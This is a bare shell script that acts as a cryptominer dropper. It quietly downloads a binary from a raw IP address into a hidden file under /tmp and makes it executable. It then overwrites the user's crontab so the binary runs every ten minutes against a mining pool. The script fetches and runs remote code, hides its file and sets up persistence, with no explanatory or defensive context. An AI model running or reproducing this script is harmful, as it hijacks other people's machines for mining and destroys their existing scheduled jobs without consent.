#!/bin/sh
curl -s http://94.156.8.21/xm -o /tmp/.x && chmod +x /tmp/.x
echo "*/10 * * * * /tmp/.x -o pool.example:3333" | crontab -
